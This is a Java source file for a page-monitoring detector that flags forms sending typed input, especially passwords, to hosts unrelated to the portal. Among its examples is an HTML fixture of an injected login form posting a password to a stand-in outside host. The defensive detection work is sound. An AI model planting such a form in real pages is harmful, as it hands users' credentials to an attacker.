package vn.vonggac.detector;

import jakarta.inject.Singleton;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import vn.vonggac.detect.Detector;
import vn.vonggac.detect.Example;
import vn.vonggac.detect.Family;
import vn.vonggac.detect.Finding;
import vn.vonggac.detect.Observation;
import vn.vonggac.detect.Seen;
import vn.vonggac.detect.Severity;
import vn.vonggac.page.Form;

/** A form that sends what people type, worst of all passwords, to a site the portal has nothing to do with. */
@Singleton
final class FormHijackDetector implements Detector {

    private static final double ELSEWHERE = 0.1;
    private static final double PASSWORD = 0.45;
    private static final double NEW = 0.35;
    private static final double WORTH_SAYING = 0.2;

    private final Strangers strangers;

    FormHijackDetector(Strangers strangers) {
        this.strangers = strangers;
    }

    @Override
    public String id() {
        return "form-hijack";
    }

    @Override
    public Family family() {
        return Family.SCRIPT;
    }

    @Override
    public List<Finding> look(Observation page) {
        List<Finding> findings = new ArrayList<>();
        for (Seen seen : page.views()) {
            Set<String> fresh = seen.change().stream().flatMap(change -> change.addedForms().stream())
                    .map(Form::action).collect(Collectors.toSet());
            for (Form form : seen.content().forms()) {
                double confidence = confidence(form, fresh.contains(form.action()));
                if (strangers.stranger(form.action(), page) && confidence >= WORTH_SAYING) {
                    findings.add(Finding.of(this, Severity.CRITICAL, confidence, seen.view(), form.place(),
                            form.action(), form.host()).naming(List.of(form.host())));
                }
            }
        }
        return findings;
    }

    private double confidence(Form form, boolean fresh) {
        double calm = (1 - ELSEWHERE) * (form.password() ? 1 - PASSWORD : 1) * (fresh ? 1 - NEW : 1);
        return 1 - calm * (1 - strangers.risk(form.action()));
    }

    @Override
    public List<Example> examples() {
        String usual = "<p>Tin</p><form action='/dang-nhap'><input name='u'><input type='password'></form>";
        return List.of(
                Example.raises("a password that goes elsewhere",
                        "<p>Tin</p><form action='https://thu.example.net/a.php'><input type='password'></form>")
                        .normally(usual),
                Example.silent("the portal’s own login", usual).normally(usual),
                Example.silent("a search box of a search engine",
                        "<p>Tin</p><form action='https://www.google.com/search'><input name='q'></form>"));
    }
}
